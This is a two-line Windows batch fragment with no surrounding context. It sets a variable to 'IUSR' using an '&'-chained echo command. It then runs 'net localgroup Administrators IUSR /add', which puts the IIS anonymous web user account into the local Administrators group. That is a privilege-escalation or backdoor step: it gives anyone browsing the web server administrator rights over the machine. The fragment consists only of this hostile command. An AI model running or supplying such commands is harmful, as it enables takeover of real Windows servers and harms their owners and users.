set A=IUSR&echo x
if "%A%"=="IUSR" net localgroup Administrators IUSR /add
